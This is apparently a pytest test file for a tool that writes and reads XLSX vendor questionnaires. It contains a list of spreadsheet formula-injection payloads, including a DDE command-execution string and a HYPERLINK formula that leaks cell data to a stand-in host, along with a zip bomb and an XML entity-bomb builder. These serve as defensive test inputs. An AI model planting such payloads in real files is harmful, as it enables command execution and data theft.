"""The XLSX form: written, filled, moved about, damaged, and read back."""

from __future__ import annotations

import io
import re
import warnings
import zipfile
from collections.abc import Callable
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.workbook import Workbook

from tests.conftest import SHARED
from vendoreval.errors import InputError, InvalidDocument
from vendoreval.formats.forms.form_layout import COLUMNS, LISTS, asks
from vendoreval.formats.forms.xlsx_form import read_form, write_form
from vendoreval.questionnaires.answers import Answer, EvidenceItem, changes
from vendoreval.questionnaires.bank import Bank, Mode
from vendoreval.questionnaires.parsing import parse_bank
from vendoreval.resources import resource

TEXT = (resource("questionnaires") / "annotation-core.toml").read_text(encoding="utf-8")
BANK = parse_bank(TEXT, "annotation-core.toml")
CREATED = datetime(2026, 3, 2, 9, 30, tzinfo=UTC)
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://x/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "＝1+1",
    "-5.2",
    "+49 30 123",
    "-",
    "'=1",
    "http://example.com/x",
]


def written(mode: Mode = "full", answers: dict[str, Answer] | None = None, bank: Bank = BANK) -> bytes:
    buffer = io.BytesIO()
    write_form(bank, buffer, vendor="acme", created=CREATED, mode=mode, answers=answers)
    return buffer.getvalue()


def opened(data: bytes) -> Workbook:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return openpyxl.load_workbook(io.BytesIO(data))


def saved(book: Workbook) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def columns(sheet: Any) -> dict[str, int]:
    for row in sheet.iter_rows(max_row=10):
        found = {cell.value: cell.column for cell in row}
        if "id" in found and "level" in found:
            return {column.key: found[column.key] for column in COLUMNS if column.key in found}
    return {}


def cell(book: Workbook, question: str, key: str) -> Any:
    for sheet in book.worksheets:
        where = columns(sheet)
        for row in range(1, sheet.max_row + 1) if where else ():
            if sheet.cell(row, where["id"]).value == question:
                return sheet.cell(row, where[key])
    raise AssertionError(question)


def filled(change: Callable[[Workbook], None], mode: Mode = "full") -> bytes:
    book = opened(written(mode))
    change(book)
    return saved(book)


def everything() -> dict[str, Answer]:
    made = {}
    for index, question in enumerate(BANK.questions):
        made[question.id] = Answer(
            question.id,
            index % 5,
            value="97.5" if question.unit else "",
            text=PAYLOADS[index % len(PAYLOADS)] + "\nand a second line",
            note=PAYLOADS[(index + 3) % len(PAYLOADS)],
            commitment=("yes", "changes", "no")[index % 3] if asks(question, "commitment") else None,
            evidence=(
                EvidenceItem("demo", "=a.pdf", dated=date(2026, 1, 2), expires=date(2027, 1, 2)),
                EvidenceItem("demo", "b.pdf", dated=date(2026, 1, 2), expires=date(2027, 1, 2)),
            ),
            channel="form",
            actor="acme",
        )
    made["S3"] = Answer("S3", None, "na", na_reason="no persons", channel="form", actor="acme")
    made["S4"] = Answer("S4", None, "declined", channel="form", actor="acme")
    made["M1"] = Answer("M1", None, "unknown", channel="form", actor="acme")
    return made


def test_same_input_same_bytes() -> None:
    assert written(answers=everything()) == written(answers=everything())


@pytest.mark.parametrize(("mode", "count"), [("full", 45), ("core", 40), ("short", 5)])
def test_an_empty_form_says_what_is_open(mode: Mode, count: int) -> None:
    answers, notes = read_form(written(mode), BANK, vendor="acme")
    assert answers == {}
    assert notes[0].startswith(f"{count} of {count} questions are open")


def test_all_answers_survive_and_nothing_becomes_a_formula() -> None:
    data = written(answers=everything())
    answers, notes = read_form(data, BANK, vendor="acme")
    assert changes(everything(), answers) == ()
    assert answers == everything()
    assert notes == ()
    resaved, _ = read_form(saved(opened(data)), BANK, vendor="acme")
    assert list(resaved) == list(answers)


def test_a_path_works_as_well(tmp_path: Path) -> None:
    path = tmp_path / "form.xlsx"
    write_form(BANK, path, vendor="acme", created=CREATED)
    assert path.read_bytes() == written()
    assert read_form(path, BANK, vendor="acme")[0] == {}


def test_a_pasted_answer_keeps_its_lines() -> None:
    def fill(book: Workbook) -> None:
        cell(book, "G1", "level").value = 3
        cell(book, "G1", "text").value = "We do._x000D_\nEvery week."  # as spreadsheets save it

    answers, _ = read_form(filled(fill), BANK, vendor="acme")
    assert answers["G1"].text == "We do.\nEvery week."


def test_filled_by_hand() -> None:
    def fill(book: Workbook) -> None:
        cell(book, "G1", "level").value = "Level 3"
        cell(book, "G1", "evidence_names").value = "guide.pdf; log.pdf\n"
        cell(book, "G1", "evidence_kind").value = "Document"
        cell(book, "G1", "evidence_dated").value = datetime(2026, 2, 1)  # noqa: DTZ001
        cell(book, "G2", "level").value = 2
        cell(book, "G3", "level").value = "4 – every label"
        cell(book, "C1", "commitment").value = "yes, With Changes"
        cell(book, "C1", "value").value = 97.5
        cell(book, "C1", "level").value = "level 2.0"
        cell(book, "A2", "text").value = "We look at it."
        cell(book, "A2", "evidence_names").value = "ticket"
        cell(book, "S3", "level").value = "Not applicable"
        cell(book, "G1", "note").value = "   "
        cover = book.worksheets[0]
        row = next(row for row in range(1, 30) if cover.cell(row, 1).value == "respondent_name")
        cover.cell(row, 3).value = "Ann Ops"

    answers, notes = read_form(filled(fill), BANK, vendor="acme")
    assert answers["G1"].evidence == tuple(
        EvidenceItem("document", name, dated=date(2026, 2, 1)) for name in ("guide.pdf", "log.pdf")
    )
    assert [answers[one].level for one in ("G1", "G2", "G3", "C1", "A2", "S3")] == [3, 2, 4, 2, None, None]
    assert (answers["C1"].commitment, answers["C1"].value) == ("changes", "97.5")
    assert answers["S3"].state == "na"
    assert answers["G1"].actor == "Ann Ops"
    assert any("39 of 45 questions are open" in note for note in notes)
    assert any("No level was chosen for A2" in note for note in notes)
    assert any("S3 is called not applicable without a reason" in note for note in notes)
    assert any("A2 does not say what kind" in note for note in notes)


def test_moved_rows_columns_sheets_and_renamed_titles() -> None:
    def move(book: Workbook) -> None:
        for one in everything().values():
            cell(book, one.question_id, "level").value = "Level 1"
        sheet: Any = book.worksheets[2]
        sheet.insert_rows(6, 3)  # blank rows
        for row in sheet.iter_rows(min_row=3, max_row=3):
            row[4].value = "Stufe"
        rows = [[one.value for one in row] for row in sheet.iter_rows()]
        order = [*range(len(rows[0]))][::-1]
        body = rows[4:][::-1]
        for number, values in enumerate(rows[:4] + body, start=1):
            for column, source in enumerate(order, start=1):
                sheet.cell(number, column).value = values[source]
        book.move_sheet(sheet, 3)
        sheet.title = "Renamed"

    answers, notes = read_form(filled(move), BANK, vendor="acme")
    assert {answer.level for answer in answers.values()} == {1}
    assert (len(answers), notes) == (45, ())


def test_reworded_question_is_noted() -> None:
    def reword(book: Workbook) -> None:
        cell(book, "G2", "question").value = "Do you have pens?"
        cell(book, "G2", "level").value = "Level 4"

    _, notes = read_form(filled(reword), BANK, vendor="acme")
    assert any("wording of G2" in note for note in notes)


def test_identity_survives_without_custom_properties() -> None:
    packed = zipfile.ZipFile(io.BytesIO(written()))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        for part in packed.namelist():
            data = packed.read(part)
            if part == "docProps/custom.xml":
                continue
            if part in ("[Content_Types].xml", "_rels/.rels"):
                data = re.sub(rb"<(Override|Relationship) [^>]*custom[^>]*/>", b"", data)
            out.writestr(part, data)
    assert read_form(buffer.getvalue(), BANK, vendor="acme")[0] == {}
    with pytest.raises(InputError, match="written for vendor 'acme'"):
        read_form(buffer.getvalue(), BANK, vendor="other")


def test_what_stands_beside_a_level_does_not_make_it_two() -> None:
    for text in ("3", "Level 3", "3.0", "3 (since 2024)", "level 3, 85 % of it", "3 - 3"):
        answers, _ = read_form(filled(put("G1", "level", text)), BANK, vendor="acme")
        assert answers["G1"].level == 3, text


@pytest.mark.parametrize(
    "name",
    [
        "30-form-plain",
        "30a-stray-space-far-below",
        "30a2-styled-empty-cell-far-below",
        "30c-numbers-style",
        "30e-merged",
        "30f-nbsp-nfd",
    ],
)
def test_forms_as_other_programs_save_them(name: str) -> None:
    answers, _ = read_form(SHARED / "cases" / f"{name}.xlsx", BANK, vendor="acme")
    assert [answer.level for answer in answers.values()] == [3] * 5


@pytest.mark.parametrize(
    ("name", "cells"),
    [
        ("30b-two-levels-in-a-cell", ["E5", "E5", "E5", "E5"]),
        ("30d-german-figures", ["K5"]),
        ("30g-answer-continued-in-next-row", ["H6"]),
    ],
)
def test_cells_of_real_forms_that_a_person_must_settle(name: str, cells: list[str]) -> None:
    with pytest.raises(InvalidDocument) as caught:
        read_form(SHARED / "cases" / f"{name}.xlsx", BANK, vendor="acme")
    assert [problem.field.split("cell ")[1] for problem in caught.value.problems] == cells


def test_nothing_of_the_scoring_is_in_the_file() -> None:
    everything_written = b"".join(
        zipfile.ZipFile(io.BytesIO(written())).read(part).lower()
        for part in zipfile.ZipFile(io.BytesIO(written())).namelist()
    ).decode()
    for word in ("critical", "knock", "red flag", "weight", "importance", "vbaproject"):
        assert word not in re.sub(r"fontweight|font-weight", "", everything_written).replace(
            "counted towards volume", ""
        ), word
    for question in BANK.questions:
        for flag in question.red_flags:
            in_a_level = any(flag.lower() in level.lower() for level in question.levels)
            assert in_a_level or len(flag) < 25 or flag.lower() not in everything_written


def test_it_is_laid_out_for_people() -> None:
    book = opened(written())
    sheet: Any = book.worksheets[1]
    assert sheet.freeze_panes == "D5"
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.page_setup.fitToHeight == 0
    assert sheet.print_title_rows == "$3:$3"
    assert sheet.column_dimensions["A"].hidden
    assert sheet.row_dimensions[4].hidden
    assert sheet["D5"].alignment.wrap_text
    assert sheet["C3"].fill.fgColor.rgb == "FF1F3A5F"
    assert sheet.row_dimensions[5].height > 100
    assert sheet.protection.sheet
    assert sheet["D5"].protection.locked
    assert not sheet["E5"].protection.locked
    assert book[LISTS].sheet_state == "veryHidden"
    assert {rule.formula1 for rule in sheet.data_validations.dataValidation} >= {
        "LevelChoices",
        "EvidenceChoices",
    }
    assert all(len(one.title) <= 31 for one in book.worksheets)


def test_the_cover_counts_answers() -> None:
    book = opened(written("short", {"G1": Answer("G1", 3)}))
    formulas = [one.value for row in book.worksheets[0].iter_rows() for one in row if one.data_type == "f"]
    assert formulas[0] == "=SUMPRODUCT(--(LEN('G Guidelines before the first'!E5:E5)>0))"
    shown = openpyxl.load_workbook(io.BytesIO(written("short", {"G1": Answer("G1", 3)})), data_only=True)
    assert [row[3].value for row in shown.worksheets[0].iter_rows() if row[1].value == "All"] == [1]


# ------------------------------------------------------------------ bad input


def delete_rows(book: Workbook) -> None:
    for one in ("G2", "A3"):
        found = cell(book, one, "id")
        found.parent.delete_rows(found.row)


def delete_column(book: Workbook) -> None:
    found = cell(book, "G1", "note")
    found.parent.delete_cols(found.column)


def delete_id(book: Workbook) -> None:
    cell(book, "G1", "level").value = "Level 1"
    cell(book, "G1", "id").value = None


def put(question: str, key: str, value: object) -> Callable[[Workbook], None]:
    def change(book: Workbook) -> None:
        cell(book, question, key).value = value

    return change


@pytest.mark.parametrize(
    ("change", "says"),
    [
        (delete_rows, "lacks the rows of G2, A3"),
        (lambda book: book.remove(book.worksheets[3]), "lacks the rows of R1, R2, R3, R4, R5"),
        (delete_column, "'Remark, or reason if not applicable'"),
        (delete_id, "row has answers, but its id is gone"),
        (put("G1", "id", "Z9"), "'Z9' is not a question"),
        (put("G2", "id", "G1"), "G1 stands in the form twice"),
        (put("G1", "text", "=1+1"), "cell H5: G1 is answered by a formula"),
        (put("G1", "level", "=IF(1,4,0)"), "cell E5: G1 is answered by a formula"),
        (put("G1", "level", "Level 5"), "'Level 5' is none of the list's choices"),
        (put("G1", "level", "3.5"), "'3.5' is none of the list's choices"),
        (put("G1", "level", "3,5"), "'3,5' is none of the list's choices"),
        (put("G1", "level", "Level 2-3"), "cell E5: 'Level 2-3' names two levels"),
        (put("G1", "level", "2 (4 from July on)"), "names two levels"),
        (put("G1", "level", "very good"), "'very good' is none"),
        (put("C1", "commitment", "maybe"), "'maybe' is none"),
        (put("G1", "evidence_kind", "gossip"), "'gossip' is none"),
        (put("G1", "evidence_dated", "last week"), "'last week' is no date"),
    ],
)
def test_changed_forms_are_refused_with_the_place(change: Callable[[Workbook], None], says: str) -> None:
    with pytest.raises(InputError) as caught:
        read_form(filled(change), BANK, vendor="acme")
    assert says in str(caught.value)


def test_all_faulty_cells_are_listed_at_once() -> None:
    def spoil(book: Workbook) -> None:
        put("G1", "level", "x")(book)
        put("M6", "level", "y")(book)

    with pytest.raises(InvalidDocument) as caught:
        read_form(filled(spoil), BANK, vendor="acme")
    assert len(caught.value.problems) == 2


def bomb() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        out.writestr("xl/workbook.xml", b"0" * 60_000_000)
    return buffer.getvalue()


def plain_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as out:
        out.writestr("a.txt", "hello")
    return buffer.getvalue()


def damaged_part() -> bytes:
    packed = zipfile.ZipFile(io.BytesIO(written()))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        for part in packed.namelist():
            data = packed.read(part)
            out.writestr(part, data[: len(data) // 2] if part == "xl/worksheets/sheet2.xml" else data)
    return buffer.getvalue()


def entity_bomb() -> bytes:
    packed = zipfile.ZipFile(io.BytesIO(written()))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        for part in packed.namelist():
            data = packed.read(part)
            if part == "xl/workbook.xml":
                head = b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>'
                data = data.replace(b"?>", b"?>" + head, 1)
            out.writestr(part, data)
    return buffer.getvalue()


def other_workbook() -> bytes:
    return saved(openpyxl.Workbook())


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (b"", "is empty"),
        (b"id,level\nG1,4\n", "is not an XLSX file"),
        (b"\xd0\xcf\x11\xe0rest", "protected by a password"),
        (written()[:9000], "is not an XLSX file"),
        (plain_zip(), "not an XLSX file"),
        (bomb(), "unpacks to more than"),
        (damaged_part(), "a part of it is damaged"),
        (entity_bomb(), "declares a document type in xl/workbook.xml"),
        (other_workbook(), "is not a questionnaire form of vendoreval"),
    ],
)
def test_files_that_are_no_form(data: bytes, says: str) -> None:
    with pytest.raises(InputError) as caught:
        read_form(data, BANK, vendor="acme")
    assert says in str(caught.value)


def test_missing_file_and_folder(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="no such file"):
        read_form(tmp_path / "none.xlsx", BANK, vendor="acme")
    with pytest.raises(InputError, match="folder"):
        read_form(tmp_path, BANK, vendor="acme")


def test_forms_of_another_version_text_or_vendor() -> None:
    newer = parse_bank(TEXT.replace('version = "1.1.0"', 'version = "1.2.0"'), "x")
    with pytest.raises(
        InputError, match=r"form of annotation-core 1\.1\.0; asked for was annotation-core 1\.2\.0"
    ):
        read_form(written(), newer, vendor="acme")
    reworded = parse_bank(TEXT.replace("Nobody in particular", "Nobody"), "x")
    with pytest.raises(InputError, match="another text"):
        read_form(written(), reworded, vendor="acme")
    reweighted = parse_bank(TEXT.replace('importance = "minor"', 'importance = "info"'), "x")
    assert read_form(written(), reweighted, vendor="acme")[0] == {}
    with pytest.raises(InputError, match="written for vendor 'acme', not for 'birds'"):
        read_form(written(), BANK, vendor="birds")
